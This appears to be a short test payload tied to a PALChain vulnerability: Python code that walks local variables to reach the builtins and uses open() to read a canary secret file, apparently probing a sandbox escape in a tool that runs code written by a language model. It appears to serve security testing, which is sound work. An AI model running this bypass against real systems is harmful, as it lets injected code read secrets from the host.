# source: PALChain CVE-2025-61423
# effect: secret

table = locals()
for key in list(table):
    if key.startswith("__b"):
        print(table[key].open("/tmp/canary/secret").read())
